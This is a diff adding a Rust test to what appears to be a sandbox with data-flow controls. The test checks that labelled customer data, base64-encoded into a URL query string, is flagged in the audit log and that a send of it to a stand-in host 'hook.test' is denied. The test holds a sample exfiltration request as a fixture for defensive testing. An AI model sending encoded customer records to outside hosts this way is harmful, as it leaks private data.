@@ -300,3 +300,34 @@ crm = []
     let typo = text.replace("[flow.label]", "[flow.labels]");
     assert!(Capabilities::from_toml(&typo, root.path(), None).is_err());
 }
+
+#[test]
+fn evidence_notes_labelled_bytes_in_a_send_and_decides_nothing() {
+    let w = world(|b| b.flow_evidence());
+    let (mut sb, sent) = sandbox(&w.caps, Mark::default());
+    assert!(sb.run(Op::read("/public/p.txt")).ok);
+    assert!(sb.run(Op::read("/data/c.csv")).ok);
+    use base64::Engine;
+    let b64 = base64::engine::general_purpose::STANDARD.encode("alice,42");
+    assert!(sb.run(Op::fetch(format!("http://crm.test/?d={b64}"))).ok);
+    assert!(sb.run(Op::fetch("http://crm.test/?d=unrelated-text")).ok);
+    flow_denied(&sb.run(Op::fetch(format!("http://hook.test/?d={b64}"))));
+    let evidence: Vec<Option<&str>> = sb.audit().iter().map(|e| e.evidence.as_deref()).collect();
+    assert_eq!(
+        evidence,
+        [
+            None,
+            None,
+            Some("customer (base64)"),
+            None,
+            Some("customer (base64)")
+        ]
+    );
+    assert_eq!(sent.0.lock().unwrap().len(), 2);
+    // Without `evidence`, nothing is fingerprinted.
+    let w = world(|b| b);
+    let (mut sb, _) = sandbox(&w.caps, Mark::default());
+    assert!(sb.run(Op::read("/data/c.csv")).ok);
+    assert!(sb.run(Op::fetch(format!("http://crm.test/?d={b64}"))).ok);
+    assert!(sb.audit().iter().all(|e| e.evidence.is_none()));
+}
